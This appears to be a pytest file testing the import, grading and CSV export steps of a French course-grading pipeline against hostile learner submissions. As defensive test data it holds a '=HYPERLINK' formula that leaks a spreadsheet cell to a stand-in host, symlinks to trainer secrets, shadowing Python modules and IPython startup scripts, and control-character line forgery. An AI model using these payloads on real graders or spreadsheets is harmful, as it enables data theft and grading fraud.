"""A trainer's pipeline that trusts no byte a learner controls (ticket 23), class by class:
who handed a copy in (the Unix owner, never the folder name), in what order (the trainer's side
collection, never a date the learner wrote), which files (regular files only, no link ever
followed, no hidden file, no Python code, only the expected notebooks and declared data), what a
trainer reads (no control character, no forged line) and what a spreadsheet reads (no formula)."""

import contextlib
import csv
import datetime as dt
import io
import os
import pwd
import secrets
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

from obm.correction.commun import (DEBUTS_DE_FORMULE, cellule_csv, charger_cours, identifiant,
                                   texte_sur)
from obm.correction.importation import importer

RACINE = Path(__file__).resolve().parents[1]
MODULE = "00_bienvenue"
MOI = pwd.getpwuid(os.geteuid()).pw_name


def plat(texte: str) -> str:
    """French typography puts narrow no-break spaces before « : » and inside « »: compare plainly."""
    return texte.replace("\u202f", " ")


def notebook_texte(marque: str) -> str:
    return nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(f"# {marque}")]))


@pytest.fixture(scope="module")
def modele(tmp_path_factory):
    from obm.correction.publication import inscrire_module

    racine = tmp_path_factory.mktemp("modele") / "cours"
    racine.mkdir()
    shutil.copy(RACINE / "nbgrader_config.py", racine / "nbgrader_config.py")
    for nom in ("solutions", "course", "data"):
        (racine / nom).symlink_to(RACINE / nom, target_is_directory=True)
    inscrire_module(charger_cours(racine), MODULE)
    return racine


@pytest.fixture
def cours(modele, tmp_path):
    racine = tmp_path / "cours"
    shutil.copytree(modele, racine, symlinks=True)
    return charger_cours(racine)


def inbound(dossier: Path) -> Path:
    chemin = dossier / "echange" / "academie-obm" / "inbound"
    chemin.mkdir(parents=True)
    return chemin


def deposer(inbound_: Path, utilisateur: str, date_ecrite: str, marque: str) -> Path:
    dossier = inbound_ / f"{utilisateur}+{MODULE}+{date_ecrite}+{secrets.token_hex(2)}"
    dossier.mkdir()
    (dossier / "exercice.ipynb").write_text(notebook_texte(marque), encoding="utf-8")
    (dossier / "timestamp.txt").write_text(date_ecrite, encoding="utf-8")
    return dossier


def marque(cours, apprenante: str) -> str:
    return nbformat.read(cours.racine / "submitted" / apprenante / MODULE / "exercice.ipynb", 4).cells[0].source


def rangees(cours, apprenante: str) -> list[str]:
    dossier = cours.racine / "submitted" / apprenante / MODULE
    return sorted(p.relative_to(dossier).as_posix() for p in dossier.rglob("*"))


# --- Who handed it in: the Unix owner ---------------------------------------------------------

def test_echange_dossier_au_nom_d_une_autre_refuse(cours, tmp_path):
    """Is an exchange folder named for another learner, but owned by this account, refused and
    listed, instead of replacing the other learner's copy?"""
    boite = inbound(tmp_path)
    deposer(boite, "voisine", "2099-01-01 00:00:00.000000 UTC", "usurpation")
    deposer(boite, MOI, "2027-03-02 10:00:00.000000 UTC", "la mienne")
    bilan = importer(cours, tmp_path / "echange", MODULE)
    assert [a for a, _, _ in bilan.importees] == [identifiant(MOI)]
    assert not (cours.racine / "submitted" / "voisine").exists()
    raisons = {o: plat(r) for o, r in bilan.non_reconnues}
    usurpee = next(o for o in raisons if o.startswith("voisine+"))
    assert f"déposé par le compte « {MOI} »" in raisons[usurpee]


def _peut_creer_des_utilisateurs() -> str | None:
    if os.geteuid() != 0:
        return "il faut être root pour créer deux comptes Unix de test"
    if shutil.which("useradd") is None or shutil.which("userdel") is None:
        return "useradd manque : installe le paquet Debian passwd"
    if not os.access("/usr/bin/python3", os.X_OK):
        return "le Python du système (/usr/bin/python3) manque : installe le paquet Debian python3"
    return None


@pytest.fixture
def deux_comptes():
    """Two real Unix accounts (created and deleted by the test), as two learners of a hub."""
    raison = _peut_creer_des_utilisateurs()
    if raison:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"CI=true : {raison}", pytrace=False)
        pytest.skip(raison)
    noms = [f"obmt-{role}-{secrets.token_hex(3)}" for role in ("eve", "lea")]
    crees = []
    try:
        for nom in noms:
            subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", nom],
                           check=True, capture_output=True)
            crees.append(nom)
        yield [pwd.getpwnam(nom) for nom in noms]
    finally:
        for nom in crees:
            subprocess.run(["userdel", nom], capture_output=True)


def comme(compte, script: str, *arguments: str) -> None:
    """Run a small stdlib-only Python script as another Unix account (a learner on the hub)."""
    python = "/usr/bin/python3"  # the system one: other accounts cannot read the course venv
    sortie = subprocess.run([python, "-c", script, *arguments], user=compte.pw_uid,
                            group=compte.pw_gid, extra_groups=[], capture_output=True, text=True,
                            env={"PATH": "/usr/bin:/bin"}, cwd="/")
    assert sortie.returncode == 0, sortie.stderr


DEPOSER = """
import os, sys
boite, nom, contenu = sys.argv[1:4]
os.mkdir(os.path.join(boite, nom))
with open(os.path.join(boite, nom, "exercice.ipynb"), "w") as f:
    f.write(contenu)
with open(os.path.join(boite, nom, "timestamp.txt"), "w") as f:
    f.write(nom.split("+")[2])
"""


def test_echange_deux_vrais_comptes_unix(cours, deux_comptes):
    """With two real Unix learners on one exchange: can Eve, writing a copy in Léa's name dated
    2099, neither replace Léa's copy nor make Léa's later copies be refused as older?"""
    eve, lea = deux_comptes
    partage = Path(tempfile.mkdtemp(prefix="obm-echange-", dir="/tmp"))
    try:
        partage.chmod(0o755)
        boite = partage / "academie-obm" / "inbound"
        boite.mkdir(parents=True)
        (partage / "academie-obm").chmod(0o755)
        boite.chmod(0o733)  # as nbgrader sets it: everyone may drop a folder, nobody may list
        comme(lea, DEPOSER, str(boite), f"{lea.pw_name}+{MODULE}+2027-03-02 09:00:00.000000 UTC+a",
              notebook_texte("léa, première"))
        comme(eve, DEPOSER, str(boite), f"{lea.pw_name}+{MODULE}+2099-12-31 23:59:59.000000 UTC+z",
              notebook_texte("eve se fait passer pour léa"))
        premier = importer(cours, partage, MODULE)
        assert [a for a, _, _ in premier.importees] == [lea.pw_name]
        assert marque(cours, lea.pw_name) == "# léa, première"
        refusee = plat(next(r for o, r in premier.non_reconnues if o.endswith("+z")))
        assert f"déposé par le compte « {eve.pw_name} »" in refusee

        time.sleep(0.05)
        comme(lea, DEPOSER, str(boite), f"{lea.pw_name}+{MODULE}+2027-03-03 09:00:00.000000 UTC+b",
              notebook_texte("léa, seconde"))
        second = importer(cours, partage, MODULE)
        assert [a for a, _, _ in second.importees] == [lea.pw_name]
        assert marque(cours, lea.pw_name) == "# léa, seconde"
        assert not (cours.racine / "submitted" / eve.pw_name).exists()
    finally:
        shutil.rmtree(partage, ignore_errors=True)


# --- In what order: the trainer's side collection --------------------------------------------

def test_echange_ordre_de_collecte_et_non_date_ecrite(cours, tmp_path):
    """Does a copy collected later replace the one in place even if its folder claims the year
    2000, does re-importing say « déjà importée », and does a forged 2099 never win?"""
    boite = inbound(tmp_path)
    deposer(boite, MOI, "2099-01-01 00:00:00.000000 UTC", "v1 (datée 2099)")
    premier = importer(cours, tmp_path / "echange", MODULE)
    ident = identifiant(MOI)
    assert marque(cours, ident) == "# v1 (datée 2099)"

    time.sleep(0.05)
    deposer(boite, MOI, "2000-01-01 00:00:00.000000 UTC", "v2 (datée 2000)")
    second = importer(cours, tmp_path / "echange", MODULE)
    assert [a for a, _, _ in second.importees] == [ident]
    assert marque(cours, ident) == "# v2 (datée 2000)"

    troisieme = importer(cours, tmp_path / "echange", MODULE)
    assert not troisieme.importees
    assert sorted(r for _, r in troisieme.ecartees)[0] == "déjà importée"
    assert marque(cours, ident) == "# v2 (datée 2000)"
    # The time kept for nbgrader (late penalties) is the system's, never 2000 or 2099.
    quand = (cours.racine / "submitted" / ident / MODULE / "timestamp.txt").read_text()
    annee = int(quand[:4])
    assert annee == dt.datetime.now(dt.timezone.utc).year and premier.importees


# --- Which files: regular files only, never through a link ---------------------------------------

def test_liens_jamais_suivis(cours, tmp_path):
    """Are links in a learner's folder (to a trainer file, to solutions/, a notebook that is a
    link to the solution) never copied as their targets, and listed?"""
    secret = tmp_path / "secret_de_la_formatrice.txt"
    secret.write_text("MOT-DE-PASSE-DU-CARNET", encoding="utf-8")
    boite = inbound(tmp_path)
    dossier = deposer(boite, MOI, "2027-03-02 10:00:00.000000 UTC", "honnête")
    (dossier / "lien_secret.txt").symlink_to(secret)
    (dossier / "corrige").symlink_to(RACINE / "solutions", target_is_directory=True)
    bilan = importer(cours, tmp_path / "echange", MODULE)
    ident = identifiant(MOI)
    assert rangees(cours, ident) == ["exercice.ipynb", "timestamp.txt"]
    laisses = {o.split("/", 1)[1]: r for o, r in bilan.laisses}
    assert "jamais suivi" in laisses["lien_secret.txt"] and "jamais suivi" in laisses["corrige"]
    assert "lien_secret.txt" in bilan.texte()

    # A notebook that is itself a link to the solution: nothing to grade, nothing copied.
    autre = tmp_path / "autre"
    faux = inbound(autre)
    lien = faux / f"{MOI}+{MODULE}+2027-03-02 11:00:00.000000 UTC+x"
    lien.mkdir()
    (lien / "exercice.ipynb").symlink_to(RACINE / "solutions" / MODULE / "exercice.ipynb")
    cours2 = charger_cours(cours.racine)
    shutil.rmtree(cours2.racine / "submitted")
    bilan = importer(cours2, autre / "echange", MODULE)
    assert not bilan.importees and not (cours2.racine / "submitted" / ident).exists()
    assert any("jamais suivi" in r for _, r in bilan.laisses)


def test_lien_dans_un_dossier_de_copies(cours, tmp_path):
    """From a plain folder of copies too: is a notebook that links to the solution refused, and a
    linked folder never entered?"""
    source = tmp_path / "copies"
    (source / "marie-dupont").mkdir(parents=True)
    (source / "marie-dupont" / "exercice.ipynb").symlink_to(RACINE / "solutions" / MODULE / "exercice.ipynb")
    (source / "chloe-martin").symlink_to(RACINE / "solutions" / MODULE, target_is_directory=True)
    (source / "Lea Roux.ipynb").write_text(notebook_texte("léa"), encoding="utf-8")
    bilan = importer(cours, source, MODULE)
    assert [a for a, _, _ in bilan.importees] == ["lea-roux"]
    assert not (cours.racine / "submitted" / "marie-dupont").exists()
    assert not (cours.racine / "submitted" / "chloe-martin").exists()
    texte = plat(bilan.texte())
    assert "chloe-martin : lien symbolique" in texte
    assert "marie-dupont/exercice.ipynb : lien symbolique" in texte


def test_ni_fichier_cache_ni_code_python_ni_fichier_inattendu(cours, tmp_path):
    """Are an IPython startup file, a package shadowing obm, Python modules, compiled code, a FIFO,
    an unknown notebook and a stray file all left out of submitted/ and listed?"""
    dossier = deposer(inbound(tmp_path), MOI, "2027-03-02 10:00:00.000000 UTC", "avec des passagers")
    startup = dossier / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00-triche.py").write_text("print('avant toute défense')\n", encoding="utf-8")
    (dossier / "obm").mkdir()
    (dossier / "obm" / "__init__.py").write_text("TRICHE = True\n", encoding="utf-8")
    (dossier / "obm.py").write_text("TRICHE = True\n", encoding="utf-8")
    (dossier / "sitecustomize.py").write_text("TRICHE = True\n", encoding="utf-8")
    (dossier / "__pycache__").mkdir()
    (dossier / "__pycache__" / "verifier.cpython-311.pyc").write_bytes(b"\x00" * 16)
    (dossier / "triche.pth").write_text("import os\n", encoding="utf-8")
    (dossier / "brouillon.ipynb").write_text(notebook_texte("brouillon"), encoding="utf-8")
    (dossier / "notes.txt").write_text("à lire", encoding="utf-8")
    os.mkfifo(dossier / "tube")
    debut = time.monotonic()
    bilan = importer(cours, tmp_path / "echange", MODULE)
    assert time.monotonic() - debut < 30  # the FIFO was never opened for a blocking read
    ident = identifiant(MOI)
    assert rangees(cours, ident) == ["exercice.ipynb", "timestamp.txt"]
    laisses = {o.split("/", 1)[1]: r for o, r in bilan.laisses}
    assert "fichier caché" in laisses[".ipython/"]
    assert "paquet Python" in laisses["obm/"]
    for nom in ("obm.py", "sitecustomize.py", "__pycache__/", "triche.pth"):
        assert "code Python" in laisses[nom], nom
    assert "ni fichier ordinaire" in laisses["tube"]
    assert "n'attend pas" in laisses["notes.txt"]
    assert any("brouillon.ipynb" in o and "notebook inconnu" in r for o, r in bilan.non_reconnues)


# --- What a trainer reads ---------------------------------------------------------------------

FORGE = "\n- cmartin : copie truquée, 0 point\x1b[2K\x1b[1A\r\u202e"


def test_bilan_d_import_sans_caractere_de_controle(cours, tmp_path):
    """Does a file name holding a newline, escape codes and a bidi override stay on its own line
    of the import summary, with no control character, instead of forging a line about another
    learner?"""
    source = tmp_path / "copies"
    source.mkdir()
    (source / f"Zoé{FORGE}.ipynb").write_text(notebook_texte("zoé"), encoding="utf-8")
    (source / f"notes{FORGE}.txt").write_text("x", encoding="utf-8")
    texte = importer(cours, source, MODULE).texte()
    assert not any(c in texte for c in "\x1b\r\u202e")
    assert not any(l.startswith("- cmartin") for l in texte.splitlines())
    for ligne in texte.splitlines():
        assert "cmartin" not in ligne or ligne.startswith(("- notes", "  zoe")), ligne


def test_copies_a_verifier_sans_ligne_forgee():
    """Does « Copies à vérifier : » keep one line per copy when a learner id and a reason carry a
    newline and escape codes (a folder or attribute name from the copy)?"""
    from obm.correction.parallele import BilanCorrection, Copie

    bilan = BilanCorrection("00_bienvenue", [
        Copie("eve" + FORGE, False, raison="cellule inconnue" + FORGE),
        Copie("cmartin", True, points=6, maximum=6, alertes=[]),
    ], 1.0, 1, "sqlite:///x.db", Path("x.db"), Path("journal.log"))
    texte = bilan.texte()
    lignes = texte.splitlines()
    debut = lignes.index("Copies à vérifier :")
    assert len(lignes[debut + 1:]) == 1 and lignes[debut + 1].startswith("- eve")
    assert not any(c in texte for c in "\x1b\r\u202e")


def test_texte_sur_retire_les_controles():
    """Does texte_sur drop C0/C1 controls, line and paragraph separators and bidi or zero-width
    marks, keep accents, and cut very long names?"""
    assert texte_sur("Élodie\u2028Le\u2029Goff\x85\x9b31m\u200b\u2066") == "Élodie Le Goff 31m"
    assert texte_sur("a" * 500).endswith("…") and len(texte_sur("a" * 500)) == 200


# --- What a spreadsheet reads -----------------------------------------------------------------

def test_cellules_csv_neutralisees():
    """Does every cell that starts with = + - @, a tab or a carriage return get a leading
    apostrophe (OWASP), and nothing else change?"""
    for debut in DEBUTS_DE_FORMULE:
        assert cellule_csv(f"{debut}1+1") == f"'{debut}1+1"
    assert cellule_csv("Marie") == "Marie" and cellule_csv(12.5) == "12.5" and cellule_csv(None) == ""


def test_exports_de_notes_sans_formule(cours, tmp_path):
    """Are roster names a learner can edit in the LMS (=HYPERLINK…, +, -, @, tab) written into
    both CSV exports as text, never as a formula?"""
    from obm.correction.notes import exporter_notes

    liste = tmp_path / "liste.csv"
    liste.write_text(
        "identifiant;prenom;nom;email\n"
        'eve;"=HYPERLINK(""http://exemple.invalid/?""&A1;""clic"")";+33 6 12;@SOMME(1)\n'
        'lea;Léa;-2+3;lea@example.org\n', encoding="utf-8")
    source = tmp_path / "copies"
    source.mkdir()
    for nom in ("eve", "lea"):
        (source / f"{nom}.ipynb").write_text(notebook_texte(nom), encoding="utf-8")
    importer(cours, source, MODULE, liste=liste)
    fichiers = exporter_notes(cours, tmp_path / "notes")
    for chemin in (fichiers.par_module, fichiers.pour_lms):
        lignes = list(csv.reader(io.StringIO(chemin.read_text(encoding="utf-8-sig")), delimiter=";"))
        cellules = [c for ligne in lignes for c in ligne]
        assert not [c for c in cellules if c.startswith(DEBUTS_DE_FORMULE)], chemin.name
        assert "'=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"clic\")" in cellules
        assert "'+33 6 12" in cellules and "'@SOMME(1)" in cellules and "'-2+3" in cellules



def obm(racine: Path, *arguments: str) -> tuple[int, str, str]:
    from obm.correction.cli import main
    from obm.correction.commun import dans_le_dossier

    sortie, erreurs = io.StringIO(), io.StringIO()
    with dans_le_dossier(racine), contextlib.redirect_stdout(sortie), contextlib.redirect_stderr(erreurs):
        code = main(list(arguments))
    return code, sortie.getvalue(), erreurs.getvalue()


# --- What the grader reads: the copy of submitted/ the kernel sees -----------------------------

LISTER = ("import os\nprint('DOSSIER:', sorted(os.listdir('.')))\n"
          "try:\n    print('LU:', open('lien_secret.txt').read())\nexcept OSError as e:\n"
          "    print('ILLISIBLE:', type(e).__name__)\n"
          "print('DEMARRAGE:', 'TRICHE' in globals())\n"
          "import obm\nprint('OBM:', getattr(obm, 'TRICHE', 'le vrai'))\n")


def test_correction_sans_lien_ni_fichier_cache(cours, tmp_path):
    """Graded by `obm corriger`, does a copy whose submitted/ folder holds a link to a trainer
    file, an IPython startup folder, a package and a module shadowing obm see none of them from
    its kernel, get them listed for the trainer, and still get graded? Is submitted/ untouched
    and does nothing but the HTML page and nbgrader's two small files reach feedback/?"""
    import hashlib

    import outils_correction as oc
    from obm.correction.bac_a_sable import raison_indisponible

    raison = raison_indisponible()
    if raison is not None:  # the copy hunts for the trainer's files: only ever run isolated
        message = (f"copie qui cherche les fichiers de la formatrice jamais exécutée sans isolement : "
                   f"{raison} (installe le paquet bubblewrap : apt-get install -y bubblewrap)")
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"CI=true : {message}", pytrace=False)
        pytest.skip(message)

    secret = tmp_path / "secret_de_la_formatrice.txt"
    secret.write_text("MOT-DE-PASSE-DU-CARNET", encoding="utf-8")
    sortie = oc.nbgrader(["generate_assignment", MODULE, "--force"], cours.racine,
                         oc.environnement(tmp_path / "home"))
    assert sortie.returncode == 0, sortie.stderr
    distribuee = nbformat.read(cours.racine / "exercises" / MODULE / "exercice.ipynb", 4)
    corrigee = nbformat.read(oc.SOLUTIONS / MODULE / "exercice.ipynb", 4)
    copie = oc.remplir(distribuee, corrigee)
    reponse = next(c for c in copie.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "reponse_q1")
    reponse.source += "\n" + LISTER
    dossier = cours.racine / "submitted" / "eve" / MODULE
    dossier.mkdir(parents=True)
    nbformat.write(copie, dossier / "exercice.ipynb")
    (dossier / "lien_secret.txt").symlink_to(secret)
    (dossier / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (dossier / ".ipython" / "profile_default" / "startup" / "00.py").write_text("TRICHE = 1\n")
    (dossier / "obm").mkdir()
    (dossier / "obm" / "__init__.py").write_text("TRICHE = 'paquet'\n")
    (dossier / "obm.py").write_text("TRICHE = 'module'\n")
    avant = {p.relative_to(dossier).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
             for p in dossier.rglob("*") if p.is_file() and not p.is_symlink()}

    code, texte, erreurs = obm(cours.racine, "corriger", MODULE)
    assert code == 0, erreurs
    assert "6 / 6 points" in plat(texte)
    a_verifier = plat(texte).split("Copies à vérifier :", 1)[1]
    for nom in ("lien_secret.txt (lien symbolique", ".ipython/ (fichier caché", "obm/ (paquet Python",
                "obm.py (code Python"):
        assert nom in a_verifier, nom
    corrige = (cours.racine / "autograded" / "eve" / MODULE / "exercice.ipynb").read_text(encoding="utf-8")
    dossier_vu = next(l for l in corrige.splitlines() if "DOSSIER: [" in l)
    for absent in ("lien_secret", "'obm'", "obm.py"):
        assert absent not in dossier_vu, dossier_vu
    assert "ILLISIBLE: FileNotFoundError" in corrige and "DEMARRAGE: False" in corrige
    assert "OBM: le vrai" in corrige and "MOT-DE-PASSE" not in corrige
    from obm.correction.commun import fichiers_declares

    # Only the notebook and the data files the exercise ships (nbgrader puts its own versions).
    assert {p.name for p in (cours.racine / "autograded" / "eve" / MODULE).iterdir()} == \
        {"exercice.ipynb"} | fichiers_declares(cours, MODULE)
    apres = {p.relative_to(dossier).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
             for p in dossier.rglob("*") if p.is_file() and not p.is_symlink()}
    assert apres == avant and (dossier / "lien_secret.txt").is_symlink()

    code, _, erreurs = obm(cours.racine, "retours", MODULE)
    assert code == 0, erreurs
    retour = cours.racine / "feedback" / "eve" / MODULE
    assert {p.name for p in retour.iterdir()} == {"exercice.html"}
    assert "MOT-DE-PASSE" not in (retour / "exercice.html").read_text(encoding="utf-8")
